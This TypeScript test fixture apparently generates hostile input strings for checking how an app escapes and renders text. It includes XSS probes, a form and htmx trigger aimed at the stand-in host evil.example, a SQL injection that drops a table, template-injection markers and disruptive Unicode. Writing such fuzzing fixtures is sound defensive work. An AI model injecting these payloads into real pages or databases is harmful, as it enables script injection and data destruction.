/** What each of them would do where it is taken for more than text. */
const PIECES = [
  `<script>alert("script")</script>`,
  `"><img src=x onerror=alert(1)>`,
  `'><svg onload=alert(2)>`,
  `</textarea></title></template></option><script>alert(4)</script>`,
  `javascript:alert(5)`,
  `<a href="javascript:alert(6)">click</a>`,
  `<iframe srcdoc="<script>alert(7)</script>"></iframe>`,
  `<style>*{display:none}</style>`,
  `<form action=//evil.example><button hx-get="//evil.example" hx-trigger="load">`,
  `<!--`,
  `]]>`,
  `&lt;b&gt;&amp;&#x3C;script&#x3E;`,
  `null undefined NaN true [object Object]`,
  `\u202Eright to left override\u202C \u2066isolate \u200Fمرحبا שלום`,
  `👩‍👩‍👧‍👦 🏳️‍🌈 e\u0301\u0301\u0301\u0301\u0301 Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚`,
  `'; DROP TABLE calls; --`,
  `\\u003cscript\\u003ealert(8)\\u003c/script\\u003e`,
];

/** Braces are a template where templates are taken: they stand in text that is none. */
const TEMPLATE_MARKERS = "{{ 7 * 7 }} {% raw %} <%= 7 %> #{7} $" + "{7*7}";

const ALL = [...PIECES, TEMPLATE_MARKERS].join(" ");

/** A word that no line can hold: at most ten thousand characters. */
export const LONG_WORD = "Donaudampfschiff".repeat(625);

/** All of them, or as much of them as `max` characters hold; what is left is filled up with a word without a space. */
export const hostile = (max: number): string => `${ALL} ${LONG_WORD}`.slice(0, max).toWellFormed().trim();

/** The same without what a template would read. */
export const hostileTemplate = (max: number): string =>
  `${PIECES.join(" ")} ${LONG_WORD}`.slice(0, max).toWellFormed().trim();

/** One of them alone for places that hold few characters; `place` counts through them. */
export const hostilePiece = (place: number, max: number): string =>
  `${place} ${PIECES[place % PIECES.length] ?? ""}`.slice(0, max).toWellFormed().trim();
